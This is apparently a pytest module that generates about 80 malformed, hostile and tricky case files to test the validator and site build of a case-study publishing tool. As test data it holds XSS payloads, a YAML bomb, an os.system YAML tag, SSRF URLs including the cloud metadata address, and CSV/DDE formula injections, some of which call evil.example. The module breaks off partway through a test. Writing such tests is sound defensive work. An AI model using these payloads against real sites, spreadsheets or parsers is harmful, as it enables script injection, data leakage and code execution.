"""Issue 9, "Done when": a batch of about 80 broken, hostile and tricky-but-valid case files,
written the way a hidden tester (or a careless contributor) would, through ``casebook validate``
and ``mkdocs build``.

* **invalid** files: rejected by ``casebook validate`` (exit 1) with exactly one
  ``path:line:col: error:`` line naming the problem, at the line of the offending text; no
  traceback; ``mkdocs build --strict`` (and a plain ``mkdocs build``) fails with the same lines
  and leaves no site folder.
* **valid** (tricky) files: accepted, and the site builds byte-identically twice (two copies of
  the project, so each draws its own charts).
* **hostile** files: rejected as above, or accepted and inert in every output: no event-handler
  attribute, no non-http(s) link, no element the record did not legitimately produce (compared
  with the page of a benign case made from the same template), the payload shown as typed;
  SVGs parse as XML with no script; CSV cells cannot start a formula; JSON, the feed and RIS
  files parse and keep their shape.

Each file is first validated as the only new case beside the sample cases (in process, through
the CLI's own ``main``), then the files are batched into two projects (one that must fail, one
that must build) so the whole module takes well under two minutes.
"""

from __future__ import annotations

import contextlib
import csv
import io
import json
import os
import re
import shutil
import subprocess
import sys
import xml.etree.ElementTree as ET
from collections import Counter
from dataclasses import dataclass, field
from pathlib import Path

import pytest

import sitekit
from sitekit import Page, unsafe_markup

# -- the template every file starts from ---------------------------------------------------------
# Every plain-text field a case has, each once, so a payload can be put in any of them. Values are
# raw YAML; ``q()`` writes any Python string as a JSON (so YAML) double-quoted scalar.
TEMPLATE = """\
# yaml-language-server: $schema=../../../cases/_data/case.schema.json
id: {id}
name: {name}
short_name: {short_name}
aliases:
  - {alias}
country: {country}
region: {region}
established: {established}
population: {population}
sectors: [acute, community]
governance: lead-provider
members:
  - {member}
  - name: {member_name}
    role: {member_role}
benefits: [workforce, efficiency-and-scale]
summary: {summary}
narrative: {narrative}
outcomes:
  - measure: {measure}
    benefit: workforce
    change_percent: {change_percent}
    period: {period}
    locator: {locator}
    source: 1
  - measure: Bank shifts filled each month
    benefit: efficiency-and-scale
    value: {value}
    baseline: {baseline}
    unit: {unit}
    source: 1
lessons:
  - {lesson}
discrepancies:
  - {discrepancy}
sources:
  - title: {title}
    publisher: {publisher}
    url: {url}
    published: {published}
    accessed: {accessed}
related: [{related}]
status: ended
status_year: 2024
status_note: {status_note}
last_reviewed: {last_reviewed}
added: 2025-01-01
{extra}"""

#: The plain-text fields of the template (every one reaches a page; most reach a CSV too).
TEXT_SLOTS = ("name", "short_name", "alias", "region", "member", "member_name", "member_role", "summary",
              "measure", "period", "locator", "unit", "lesson", "discrepancy", "title", "publisher",
              "status_note")


def q(text: str) -> str:
    """Any string as a YAML double-quoted scalar: JSON escapes are YAML escapes, except that a
    character outside the BMP is one YAML escape (\\UXXXXXXXX), not a JSON surrogate pair."""
    return re.sub(r"\\ud([89ab][0-9a-f]{2})\\ud([c-f][0-9a-f]{2})",
                  lambda m: f"\\U{0x10000 + ((int('d' + m[1], 16) - 0xD800) << 10) + int('d' + m[2], 16) - 0xDC00:08X}",
                  json.dumps(text))


def block(text: str) -> str:
    """A Markdown narrative as a YAML literal block."""
    return "|\n" + "\n".join(("  " + line) if line else "" for line in text.split("\n"))


def defaults(stem: str) -> dict[str, str]:
    words = stem.replace("-", " ").title()
    return {
        "id": stem, "name": q(f"{words} Staffing Collaborative"), "short_name": "ASC", "alias": q(f"{words} bank"),
        "country": "GB", "region": "North Example", "established": "2019", "population": "250000",
        "member": "Example Hospitals NHS Trust", "member_name": "Example Community Trust",
        "member_role": "host of the bank", "summary": q(f"Two fictional trusts ({words}) share one bank of temporary staff."),
        "narrative": block("The partners pooled their bank staff, as the\n[annual report](https://example.org/report) says."),
        "measure": "Spending on agency staff", "change_percent": "-20", "period": "2022/23", "locator": "page 4",
        "value": "1200", "baseline": "900", "unit": "shifts", "lesson": "Start with one staff group.",
        "discrepancy": "The report and the press release give different start dates.",
        "title": "Annual report 2023 (fictional)", "publisher": "Example Hospitals NHS Trust",
        "url": "https://example.org/report", "published": '"2023"', "accessed": "2025-01-01",
        "related": "northfield-acute-alliance", "status_note": "Merged into a regional bank.",
        "last_reviewed": "2025-01-01", "extra": "",
    }


def case(stem: str, **slots: str) -> str:
    unknown = set(slots) - set(defaults(stem))
    assert not unknown, unknown
    return TEMPLATE.format(**{**defaults(stem), **slots})


def edit(stem: str, old: str, new: str, **slots: str) -> str:
    text = case(stem, **slots)
    assert text.count(old) == 1, old
    return text.replace(old, new)


# -- the batch -----------------------------------------------------------------------------------
@dataclass
class Item:
    stem: str
    group: str
    expect: str  # "invalid" | "valid" | "hostile"
    content: str | bytes | None
    needle: str = ""  # a fragment of the one error message (invalid; hostile when rejected)
    at: str | None = None  # source text at whose line the error must stand
    file: str = ""  # the file name, when not <stem>.yaml
    others: dict = field(default_factory=dict)  # more files in cases/ (name → content)
    make: object = None  # a callable(folder) that creates something other than a file
    shows: str | None = None  # text the case page must show as typed (hostile/valid)
    errors: int = 1  # how many error lines

    @property
    def name(self) -> str:
        return self.file or f"{self.stem}.yaml"


def _items() -> list[Item]:
    I = Item  # noqa: E741
    out: list[Item] = []
    add = out.append

    # YAML and file level ------------------------------------------------------------------
    s = "yaml-unclosed-quote"
    add(I(s, "yaml", "invalid", case(s, summary='"Two trusts share a bank'), "not closed", at='"Two trusts'))
    s = "yaml-tab-indent"
    add(I(s, "yaml", "invalid", edit(s, "    role: host", "\trole: host"), "YAML syntax error"))
    s = "yaml-bad-indent"
    add(I(s, "yaml", "invalid", edit(s, "    publisher:", "      publisher:"), "YAML syntax error"))
    s = "yaml-colon-in-value"
    add(I(s, "yaml", "invalid", case(s, lesson="Lesson: start small: then grow"), "YAML syntax error"))
    s = "yaml-duplicate-key"
    add(I(s, "yaml", "invalid", case(s, extra="summary: A second summary.\n"), "duplicate field 'summary'",
          at="summary: A second"))
    s = "yaml-duplicate-nested-key"
    add(I(s, "yaml", "invalid", edit(s, "    period: 2022/23", "    period: 2022/23\n    period: 2023/24"),
          "duplicate field 'period'", at="period: 2023/24"))
    s = "yaml-two-documents"
    add(I(s, "yaml", "invalid", case(s, extra="---\nid: another\n"), "one YAML document"))
    s = "yaml-list-document"
    add(I(s, "yaml", "invalid", "- id: yaml-list-document\n- name: x\n", "mapping"))
    s = "yaml-scalar-document"
    add(I(s, "yaml", "invalid", "just a sentence about a case\n", "mapping"))
    s = "yaml-empty"
    add(I(s, "yaml", "invalid", "", "empty"))
    s = "yaml-comments-only"
    add(I(s, "yaml", "invalid", "# TODO: fill in\n\n   \n# later\n", "empty"))
    s = "yaml-billion-laughs"
    bomb = 'a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]\n' + "".join(
        f"{chr(98 + i)}: &{chr(98 + i)} [*{chr(97 + i)},*{chr(97 + i)},*{chr(97 + i)},*{chr(97 + i)},*{chr(97 + i)},"
        f"*{chr(97 + i)},*{chr(97 + i)},*{chr(97 + i)},*{chr(97 + i)}]\n" for i in range(8))
    add(I(s, "yaml", "invalid", case(s, extra=bomb), "anchors", at="a: &a"))
    s = "yaml-alias-reuse"
    add(I(s, "yaml", "invalid", edit(s, "sectors: [acute, community]", "sectors: &s [acute, community]"),
          "anchors", at="sectors: &s"))
    s = "yaml-deep-nesting"
    add(I(s, "yaml", "invalid", case(s, extra="deep: " + "[" * 5000 + "]" * 5000 + "\n"), "nest", at="deep:"))
    s = "yaml-python-tag"
    add(I(s, "yaml", "invalid", case(s, region='!!python/object/apply:os.system ["echo pwned"]'),
          "is not allowed", at="!!python"))
    s = "yaml-binary-tag"
    add(I(s, "yaml", "invalid", case(s, short_name="!!binary aGVsbG8="), "is not allowed", at="!!binary"))
    s = "yaml-int-tag-on-text"
    add(I(s, "yaml", "invalid", case(s, population="!!int many"), "!!int", at="!!int"))
    s = "file-oversized"
    add(I(s, "yaml", "invalid", case(s, extra="# " + "x" * 300_000 + "\n"), "larger than"))
    s = "file-not-utf8"
    add(I(s, "encoding", "invalid", case(s, summary="Two trusts share a bank").encode() .replace(b"share", b"sh\xffre"),
          "not valid UTF-8", at="Two trusts"))
    s = "file-latin1"
    add(I(s, "encoding", "invalid", case(s, region="Jönköping").encode("latin-1"), "not valid UTF-8", at="region:"))
    s = "file-yml-extension"
    add(I(s, "files", "invalid", case(s), "rename it", file=f"{s}.yml"))
    s = "file-upper-extension"
    add(I(s, "files", "invalid", case(s), "rename it", file=f"{s}.YAML"))
    s = "file-folder"
    add(I(s, "files", "invalid", None, "is a folder", make=lambda d, s=s: (d / f"{s}.yaml").mkdir()))
    s = "file-broken-symlink"
    add(I(s, "files", "invalid", None, "does not exist",
          make=lambda d, s=s: os.symlink(d / "nowhere.yaml", d / f"{s}.yaml")))

    def outside(d: Path, s: str = "file-outside-symlink") -> None:
        target = d.parent / f"{s}-elsewhere.yaml"
        target.write_text(case(s), encoding="utf-8")
        os.symlink(target, d / f"{s}.yaml")
    add(I("file-outside-symlink", "files", "invalid", None, "outside the cases folder", make=outside))

    # Fields: types, vocabularies, references, ids, dates ------------------------------------
    s = "field-unknown"
    add(I(s, "fields", "invalid", case(s, extra="sumary: A typo.\n"), "unknown field 'sumary'", at="sumary:"))
    s = "field-unknown-in-outcome"
    add(I(s, "fields", "invalid", edit(s, "    locator: page 4", "    locater: page 4"), "unknown field 'locater'",
          at="locater:"))
    s = "type-sectors-text"
    add(I(s, "fields", "invalid", edit(s, "sectors: [acute, community]", "sectors: acute"), "must be a list",
          at="sectors: acute"))
    s = "type-year-quoted"
    add(I(s, "fields", "invalid", case(s, established='"2019"'), "whole number", at='"2019"'))
    s = "type-summary-list"
    add(I(s, "fields", "invalid", case(s, summary="[one, two]"), "must be text", at="[one, two]"))
    s = "type-change-text"
    add(I(s, "fields", "invalid", case(s, change_percent="-20%"), "must be a number", at="-20%"))
    s = "type-anonymised-yes"
    add(I(s, "fields", "invalid", case(s, extra="anonymised: yes\n"), "true or false", at="anonymised: yes"))
    s = "vocab-benefit"
    add(I(s, "fields", "invalid", edit(s, "benefits: [workforce, efficiency-and-scale]",
                                        "benefits: [workforce, efficency-and-scale]"), "efficency-and-scale",
          at="efficency"))
    s = "vocab-governance"
    add(I(s, "fields", "invalid", edit(s, "governance: lead-provider", "governance: lead_provider"), "lead_provider",
          at="lead_provider"))
    s = "vocab-trailing-space"
    add(I(s, "fields", "invalid", edit(s, "    benefit: workforce\n    change", '    benefit: "workforce "\n    change'),
          "unknown value", at='"workforce "'))
    s = "related-missing"
    add(I(s, "fields", "invalid", case(s, related="no-such-case"), "no-such-case", at="no-such-case"))
    s = "related-self"
    add(I(s, "fields", "invalid", case(s, related=s), "related to itself", at=f"[{s}]"))
    s = "id-duplicate"
    add(I(s, "ids", "invalid", case(s, id="northfield-acute-alliance"), "northfield-acute-alliance",
          at="id: northfield"))
    s = "id-not-file-name"
    add(I(s, "ids", "invalid", case(s, id="some-other-id"), "does not match the file name", at="id: some"))
    s = "id-two-files-same"
    add(I(s, "ids", "invalid", case(s), "already used", others={f"{s}-copy.yaml": case(f"{s}-copy", id=s)}))
    s = "index"
    add(I(s, "ids", "invalid", case(s), "reserved", at="id: index"))
    s = "readme"
    add(I(s, "ids", "invalid", case(s), "reserved", at="id: readme"))
    s = "id-trailing-newline"
    add(I(s, "ids", "invalid", case(s, id=q(s + "\n")), "line break", at=f'id: "{s}'))
    s = "id-uppercase"
    add(I(s, "ids", "invalid", case(s, id="Id-Uppercase"), "lowercase", file="Id-Uppercase.yaml", at="id: Id"))
    s = "vocab-trailing-newline"
    add(I(s, "fields", "invalid", edit(s, "sectors: [acute, community]", 'sectors: [acute, "community\\n"]'),
          "line break", at='"community'))
    s = "id-zero-width"
    add(I(s, "ids", "invalid", case(s, id=q("id-zero\u200bwidth")), "'id'", at="id: "))
    s = "date-future-reviewed"
    add(I(s, "dates", "invalid", case(s, last_reviewed="2999-01-01"), "in the future", at="2999-01-01"))
    s = "date-future-published"
    add(I(s, "dates", "invalid", case(s, published='"2999-05"'), "in the future", at='"2999-05"'))
    s = "date-future-accessed"
    add(I(s, "dates", "invalid", case(s, accessed="2999-12-31"), "in the future", at="2999-12-31"))
    s = "date-future-established"
    add(I(s, "dates", "invalid", case(s, established="2999"), "year from 1900", at="2999"))
    s = "date-trailing-newline"
    add(I(s, "dates", "invalid", case(s, last_reviewed=q("2025-01-01\n")), "line break", at='"2025-01-01'))
    s = "date-not-real"
    add(I(s, "dates", "invalid", case(s, last_reviewed="2025-02-30"), "not a real date", at="2025-02-30"))
    s = "country-uk"
    add(I(s, "country", "invalid", case(s, country="UK"), "GB", at="country: UK"))
    s = "country-false-quoted"
    add(I(s, "country", "invalid", case(s, country='"False"'), "ISO 3166-1", at='"False"'))
    s = "country-false-plain"
    add(I(s, "country", "invalid", case(s, country="false"), "ISO 3166-1", at="country: false"))

    # Numbers ------------------------------------------------------------------------------------
    s = "number-change-1e308"
    add(I(s, "numbers", "invalid", case(s, change_percent="1e308"), "at most", at="change_percent: 1e308"))
    s = "number-change-below"
    add(I(s, "numbers", "invalid", case(s, change_percent="-150"), "at least", at="-150"))
    s = "number-value-overflow"
    add(I(s, "numbers", "invalid", case(s, value="1e400"), "finite", at="1e400"))
    s = "number-value-inf"
    add(I(s, "numbers", "invalid", case(s, value=".inf"), "must be a number", at=".inf"))
    s = "number-baseline-huge"
    add(I(s, "numbers", "invalid", case(s, baseline="-5e15"), "at least", at="-5e15"))
    s = "number-population-zero"
    add(I(s, "numbers", "invalid", case(s, population="0"), "at least", at="population: 0"))
    s = "number-many-digits"
    add(I(s, "numbers", "invalid", case(s, population="9" * 5000), "digits", at="population: 999"))

    # Characters ---------------------------------------------------------------------------------
    s = "chars-escape-e"
    add(I(s, "characters", "invalid", case(s, summary=q("Two trusts \x1b[31mshare a bank.")), "U+001B",
          at="summary:"))
    s = "chars-escape-nul"
    add(I(s, "characters", "invalid", case(s, name=q("Harbour\x00 Bank Collaborative")), "U+0000", at="name:"))
    s = "chars-c1"
    add(I(s, "characters", "invalid", case(s, measure=q("Agency spend\x85 per month")), "U+0085", at="measure:"))
    s = "chars-bidi-override"
    add(I(s, "characters", "invalid", case(s, lesson="Check the \u202eevil\u202c order."), "U+202E",
          at="Check the"))
    s = "chars-bidi-isolate-escape"
    add(I(s, "characters", "invalid", case(s, title=q("Report \u2066hidden\u2069")), "U+2066", at="title:"))
    s = "chars-zero-width-only"
    add(I(s, "characters", "invalid", case(s, summary=q("\u200b\u200d\u2060")), "invisible", at="summary:"))
    s = "chars-filler-name"
    add(I(s, "characters", "invalid", case(s, name=q("\u3164\u3164")), "invisible", at="name:"))
    s = "chars-line-separator"
    add(I(s, "characters", "invalid", case(s, period="2022\u20282023"), "U+2028", at="period: 2022"))

    # Source addresses ---------------------------------------------------------------------------
    for s, url, needle in [
        ("url-javascript", "javascript:alert(document.domain)", "not an http"),
        ("url-data", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "not an http"),
        ("url-protocol-relative", "//evil.example/report", "protocol-relative"),
        ("url-userinfo", "https://example.org@evil.example/report", "user name"),
        ("url-localhost", "http://localhost:8000/admin", "this computer"),
        ("url-private-ip", "http://192.168.1.10/report", "private"),
        ("url-metadata", "http://169.254.169.254/latest/meta-data/", "link-local"),
        ("url-loopback-decimal", "http://2130706433/", "loopback"),
        ("url-ipv6-loopback", "http://[::1]/report", "loopback"),
        ("url-backslash", q("https://example.org\\@evil.example/"), "backslash"),
        ("url-circled-loopback", q("http://\u2460\u2461\u2466.0.0.1/"), "loopback"),  # ①②⑦ is 127 to a browser
        ("url-fullwidth-private", q("http://\uff11\uff19\uff12.\uff11\uff16\uff18.0.1/"), "private"),
    ]:
        add(I(s, "addresses", "invalid", case(s, url=url), needle, at="    url:"))

    # Narrative links and markup, judged on the rendered HTML -------------------------------------
    for s, md, at in [
        ("md-refdef-in-list", "- [minutes]: javascript:alert(1)\n\nSee the [minutes].", "javascript:"),
        ("md-refdef-in-nested-quote", "> - item\n>\n>   [m]: javascript:alert(1)\n\nSee [m].", "javascript:"),
        ("md-refdef-in-deflist", "Minutes\n:   [d]: vbscript:msgbox(1)\n\nSee [d].", "vbscript:"),
        ("md-footnote-style-refdef", "See the note[^1].\n\n[^1]: javascript:alert(1)\n\nAnd [x][^1].", "javascript:"),
        ("md-link-in-admonition", '!!! note "Minutes"\n    Read [them](javascript:alert(1)).', "javascript:"),
        ("md-link-in-details", '??? note "More"\n    Read [them](data:text/html,hi).', "data:"),
        ("md-link-in-table", "| a | b |\n|---|---|\n| [x](javascript:alert(1)) | y |", "javascript:"),
        ("md-entity-scheme", "Read [this](&#106;avascript&#58;alert(1)).", "&#106;"),
        ("md-tab-in-scheme", "Read [this](java&#9;script:alert(1)).", "java&#9;"),
        ("md-angle-destination", "Read [this](<javascript:alert(1)>).", "javascript:"),
        ("md-protocol-relative", "Read [this](//evil.example/x).", "//evil"),
        ("md-private-host", "Read [this](http://10.0.0.7/intranet).", "http://10.0.0.7"),
        ("md-userinfo", "Read [this](https://nhs.uk@evil.example/).", "https://nhs.uk@"),
        ("md-relative", "Read [this](../../secret/).", "../../secret/"),
        ("md-attr-list-handler", "A paragraph.\n{: onclick=\"alert(1)\" }", "onclick"),
        ("md-attr-list-heading", "## Results {: onmouseover=alert(1) }\n\nText.", "onmouseover"),
        ("md-image", "![chart](https://example.org/chart.png)", "!["),
        ("md-raw-html", "Text <img src=x onerror=alert(1)> more.", "<img"),
        ("md-raw-svg", "<svg/onload=alert(1)>", "<svg"),
        ("md-html-comment", "Text <!-- hidden --> more.", "<!--"),
        ("md-fullwidth-localhost", "Read [this](http://\uff2c\uff2f\uff23\uff21\uff2c\uff28\uff2f\uff33\uff34/).",
         "http://"),
        ("md-refdef-in-admonition", '!!! note\n    [n]: javascript:alert(1)\n\n    See [n].', "javascript:"),
        ("md-refdef-in-ordered-list", "1. First\n2. [o]: data:text/html,x\n\nSee [o].", "data:"),
        ("md-link-whitespace-scheme", "Read [this]( \tjavascript:alert(1)).", "javascript:"),
        ("md-link-uppercase-scheme", "Read [this](JAVASCRIPT:alert(1)).", "JAVASCRIPT:"),
    ]:
        add(I(s, "narrative", "invalid", case(s, narrative=block(md)), "'narrative'", at=at))

    # Raw HTML in every plain-text field -----------------------------------------------------------
    payloads = ["<img src=x onerror=alert(1)>", "<script>alert(1)</script>", "<svg/onload=alert(1)>",
                "<a href=javascript:alert(1)>x</a>", "<iframe src=//evil.example>", "<b onmouseover=alert(1)>x</b>",
                "<style>body{display:none}</style>", "<!-- x -->", "<details open ontoggle=alert(1)>",
                "<math><mi xlink:href=javascript:alert(1)>x</mi></math>", "<x:y onclick=alert(1)>",
                "<meta http-equiv=refresh content=0;url=//evil.example>", "<form action=//evil.example>",
                "<object data=javascript:alert(1)>", "<embed src=//evil.example>", "<base href=//evil.example/>",
                "<input autofocus onfocus=alert(1)>"]
    for slot, payload in zip(TEXT_SLOTS, payloads):
        s = f"html-in-{slot.replace('_', '-')}"
        add(I(s, "html-in-text", "invalid", case(s, **{slot: q(f"Text {payload} more")}), "raw HTML",
              at=f"{payload[:4]}"))
    return out + _hostile_and_valid()


#: A formula payload per plain-text field (OWASP's prefixes, DDE, HYPERLINK, IMPORTXML).
FORMULAS = dict(zip(TEXT_SLOTS, [
    '=HYPERLINK("https://evil.example","Click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0", "=1+1", '=IMPORTXML(CONCAT("https://evil.example/?",A1),"//a")', "+1", "@x", "-x",
    "=x", "+ =y", "@@", '=DDE("cmd";"/C calc";"x")', "-1-1", "+a", "=b", "@c"]))
#: Where each field lands in the CSV downloads: (file, column); lists are joined with "; ".
CSV_HOME = {"name": [("cases", "name"), ("outcomes", "case_name")], "short_name": [("cases", "short_name")],
            "alias": [("cases", "aliases")], "region": [("cases", "region")], "member": [("cases", "members")],
            "summary": [("cases", "summary")], "measure": [("outcomes", "measure"), ("cases", "outcomes")],
            "period": [("outcomes", "period")], "locator": [("outcomes", "locator")], "unit": [("outcomes", "unit")],
            "lesson": [("cases", "lessons")], "title": [("outcomes", "source_title"), ("cases", "sources")],
            "publisher": [("outcomes", "source_publisher")], "status_note": [("cases", "status_note")]}


def _hostile_and_valid() -> list[Item]:
    I = Item  # noqa: E741
    out: list[Item] = []
    add = out.append
    # Markdown and extension syntax in plain text: shown as typed, never a widget -----------------
    widgets = {
        "summary": '??? danger "Click to expand" the summary',
        "lesson": "*[Workforce]: hijacked tooltip",
        "measure": "{: onclick=alert(1) } Agency spend",
        "member_name": "# Heading member",
        "title": "[report](javascript:alert(1))",
        "publisher": "[r]: javascript:alert(1)",
        "discrepancy": "| a | b |",
        "region": "1. numbered region",
        "status_note": '!!! danger "Merged"',
        "period": "> quoted period",
        "alias": "<https://evil.example>",  # a '<' straight before a letter is HTML: rejected below if so
        "member_role": "*[NHS]: Not Here Sorry",
    }
    for slot, payload in widgets.items():
        s = f"widget-in-{slot.replace('_', '-')}"
        add(I(s, "widgets", "hostile", case(s, **{slot: q(payload)}), shows=payload))
    # Each widget in each of the fields the issue names.
    for payload_name, payload in (("details", '??? danger "Open me"'), ("abbr", "*[Workforce]: trap"),
                                  ("attrs", "{: onclick=alert(1) .x #y }")):
        for slot in ("summary", "lesson", "measure", "member_name", "title"):
            s = f"{payload_name}-in-{slot.replace('_', '-')}"
            add(I(s, "widgets", "hostile", case(s, **{slot: q(f"{payload} then text")}),
                  shows=f"{payload} then text"))
    s = "widget-after-prefix-summary"
    add(I(s, "widgets", "hostile", case(s, summary=q('Note:\n\n!!! danger "x"\n    body *[ASC]: trap {: .x }')),
          shows='Note: !!! danger "x" body *[ASC]: trap {: .x }'))

    # Formulas in every text field that reaches cases.csv and outcomes.csv ------------------------
    for slot, payload in FORMULAS.items():
        s = f"formula-in-{slot.replace('_', '-')}"
        add(I(s, "csv-formulas", "hostile", case(s, **{slot: q(payload)}),
              shows=None if slot == "locator" else payload))  # locators are in the downloads only
    s = "formula-tab-prefixed"
    add(I(s, "csv-formulas", "hostile", case(s, summary=q("\t=1+1 after a tab"), lesson=q("\t@SUM(A1)")),
          shows="=1+1 after a tab"))

    # Charts: text drawn literally ---------------------------------------------------------------
    s = "chart-dollar-measure"
    add(I(s, "charts", "hostile", case(s, measure=q("Cost per shift, $412 to $375"), unit=q("$ per shift")),
          shows="Cost per shift, $412 to $375"))
    s = "chart-mathtext-everywhere"
    add(I(s, "charts", "hostile", case(s, measure=q(r"$\frac{a}{b}$ and x_1^2 \alpha"), period=q("$x^2$"),
                                        name=q(r"Math $\sum$ Collaborative")), shows=r"$\frac{a}{b}$ and x_1^2 \alpha"))
    s = "chart-extreme-but-valid"
    add(I(s, "charts", "valid", case(s, change_percent="100000", value="0.001", baseline="-1e12")))
    s = "chart-minus-100"
    add(I(s, "charts", "valid", case(s, change_percent="-100", value="-0.5", baseline="0")))

    # Tricky but valid ----------------------------------------------------------------------------
    s = "valid-baseline"
    add(I(s, "valid", "valid", case(s)))
    s = "valid-norway"
    add(I(s, "valid", "valid", case(s, country="NO", region="Vestland")))
    s = "valid-str-tag"
    add(I(s, "valid", "valid", case(s, short_name="!!str 12", region="!!str 2022"), shows="12"))
    s = "valid-quoted-yes"
    add(I(s, "valid", "valid", case(s, short_name='"yes"', alias='"NO"')))
    s = "valid-cyrillic-lookalike"
    add(I(s, "valid", "valid", case(s, name=q("Nоrth Bank Staffing Collaborative"))))  # Cyrillic о: a warning
    s = "valid-near-duplicate-name"
    add(I(s, "valid", "valid", case(s, name=q("Northfield Acute-Alliance"))))
    s = "valid-unicode"
    add(I(s, "valid", "valid", case(s, name=q("Århus–Ελλάδα Sjúkrahús 🏥 Partnership"), region=q("Île-de-France"),
                                       summary=q("Ünïcödé text: “quotes”, — dashes, 中文, العربية, and a tab\there."))))
    s = "valid-summary-500"
    add(I(s, "valid", "valid", case(s, summary=q(("A" * 99 + " ") * 4 + "A" * 100))))
    s = "valid-crlf"
    add(I(s, "valid", "valid", case(s).replace("\n", "\r\n")))
    s = "valid-bom"
    add(I(s, "valid", "valid", "\ufeff" + case(s)))
    s = "valid-numbers-as-text"
    add(I(s, "valid", "valid", case(s, member="2022", short_name="42", published="2023")))
    s = "valid-markdown-everywhere"
    md = ("# A top heading\n\nSome *emphasis* and `code` and a [link](https://example.org/a).\n\n"
          "- [in a list](https://example.org/b)\n\n> quoted [link][r]\n\n[r]: https://example.org/c\n\n"
          "Term\n:   definition with <https://example.org/d>\n\n| a | b |\n|---|---|\n| 1 | [x](https://example.org/e) |\n\n"
          '!!! note "Aside"\n    An [aside](https://example.org/f).\n\n??? tip "More"\n    Hidden text.\n\n'
          "Costs fell from $412 to $375; a < b and b > c; 5 \\* 3; <3")
    add(I(s, "valid", "valid", case(s, narrative=block(md))))
    s = "valid-jinja-braces"
    add(I(s, "valid", "hostile", case(s, summary=q("{{ config.extra }} {% include 'x' %} ${7*7} #{7*7}"),
                                         name=q("Template {{ 7*7 }} Collaborative")),
          shows="{{ config.extra }} {% include 'x' %} ${7*7} #{7*7}"))
    s = "valid-lt-not-html"
    add(I(s, "valid", "hostile", case(s, summary=q("Waits < 18 weeks for 92 % and <3 for staff; a<b; x </ y"),
                                         measure=q("Ratio < 1:4 & falling")), shows="Waits < 18 weeks"))
    s = "valid-minimal"
    add(I(s, "valid", "valid", "\n".join([
        "# yaml-language-server: $schema=../../../cases/_data/case.schema.json", f"id: {s}",
        "name: Minimal Fictional Collaborative", "country: NZ", "sectors: [primary-care]", "benefits: [workforce]",
        "summary: The smallest record that validates.", "sources:", "  - title: A page", "    publisher: Someone",
        "last_reviewed: 2025-01-01", ""])))
    return out


ITEMS = _items()
BY_STEM = {it.stem: it for it in ITEMS}
assert len(BY_STEM) == len(ITEMS)
LINE = re.compile(r"^(?P<path>[^\n]+?):(?P<line>\d+):(?P<col>\d+): (?P<sev>error|warning): (?P<msg>.+)$")
NEIGHBOURS = sorted(p.name for p in (sitekit.SAMPLE / "cases").glob("*.yaml"))


def test_the_batch_is_about_80_files_of_every_kind():
    counts = Counter(it.expect for it in ITEMS)
    assert len(ITEMS) >= 80, counts
    assert counts["invalid"] >= 40 and counts["valid"] >= 10 and counts["hostile"] >= 20, counts


# -- 1. every file alone beside the sample cases, through the CLI ---------------------------------
def _write(folder: Path, it: Item) -> None:
    if it.make is not None:
        it.make(folder)
    if it.content is not None:
        data = it.content if isinstance(it.content, bytes) else it.content.encode("utf-8")
        (folder / it.name).write_bytes(data)
    for name, text in it.others.items():
        (folder / name).write_text(text, encoding="utf-8", newline="")


def _validate_in_process(folder: Path) -> tuple[int, str]:
    from casebook.cli import main

    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        code = main(["validate", str(folder), "--taxonomy", str(sitekit.REAL_TAXONOMY)])
    return code, out.getvalue() + err.getvalue()


def _line_of(it: Item, needle: str) -> int:
    data = it.content if isinstance(it.content, bytes) else (it.content or "").encode("utf-8")
    text = data.decode("utf-8", "replace").removeprefix("\ufeff")
    index = text.find(needle)
    assert index >= 0, f"{it.stem}: {needle!r} is not in the file"
    return len(re.split(r"\r\n|\r|\n", text[:index]))


def _problem_lines(output: str) -> list[re.Match]:
    return [m for m in map(LINE.match, output.splitlines()) if m]


REJECTED: dict[str, list[str]] = {}  # stem → its error lines, filled by the per-file test


@pytest.mark.parametrize("it", ITEMS, ids=[it.stem for it in ITEMS])
def test_each_file_alone(tmp_path, it):
    folder = tmp_path / "cases"
    shutil.copytree(sitekit.SAMPLE / "cases", folder)
    _write(folder, it)
    code, output = _validate_in_process(folder)
    assert "Traceback" not in output
    problems = _problem_lines(output)
    errors = [m for m in problems if m["sev"] == "error"]
    # Nothing wrong is reported in the neighbours, and every output line is either a problem
    # or the closing summary.
    assert all(Path(m["path"]).name not in NEIGHBOURS or m["sev"] == "warning"
               for m in problems), output
    stray = [ln for ln in output.splitlines() if not LINE.match(ln) and not re.match(r"^\d+ (error|file)", ln)]
    assert not stray, output
    if it.expect == "valid":
        assert code == 0 and not errors, output
        return
    if it.expect == "hostile" and code == 0:
        return  # accepted: must be inert in every output (checked in the build below)
    assert code == 1, output
    assert len(errors) == it.errors, f"expected {it.errors} error line(s):\n{output}"
    assert any(it.needle in m["msg"] for m in errors), f"no error mentions {it.needle!r}:\n{output}"
    if it.at is not None:
        line = _line_of(it, it.at)
        assert any(int(m["line"]) == line for m in errors), f"expected an error at line {line}:\n{output}"
    REJECTED[it.stem] = [m.group(0) for m in errors]


# -- 2. the rejected files together: validate and build fail, leaving no site -----------------------
def _run(cmd: list[str], cwd: Path) -> subprocess.CompletedProcess:
    env = {**os.environ, "NO_MKDOCS_2_WARNING": "1", "SOURCE_DATE_EPOCH": sitekit.SOURCE_DATE_EPOCH,
           "PYTHONHASHSEED": "0"}
    return subprocess.run(cmd, cwd=cwd, env=env, capture_output=True, text=True, timeout=600)


@pytest.fixture(scope="module")
def rejected_project(tmp_path_factory) -> Path:
    base = tmp_path_factory.mktemp("rejected")
    project = sitekit.copy_sample(base)
    for it in ITEMS:
        if it.expect == "invalid":
            _write(project / "cases", it)
    return project


def test_rejected_batch_fails_validate_and_build_with_one_line_per_problem(rejected_project):
    project = rejected_project
    invalid = [it for it in ITEMS if it.expect == "invalid"]
    v = _run([sys.executable, "-m", "casebook", "validate", "cases"], project)
    assert v.returncode == 1, v.stdout + v.stderr
    assert "Traceback" not in v.stdout + v.stderr
    errors = [m for m in _problem_lines(v.stdout) if m["sev"] == "error"]
    named = Counter(Path(m["path"]).name for m in errors)
    for it in invalid:  # one bad file never hides another
        assert any(named[n] for n in [it.name, *it.others]), f"{it.name} not reported:\n{v.stdout}"
    for strict in (True, False):  # a plain build must not publish either
        site = project / ("site-strict" if strict else "site-plain")
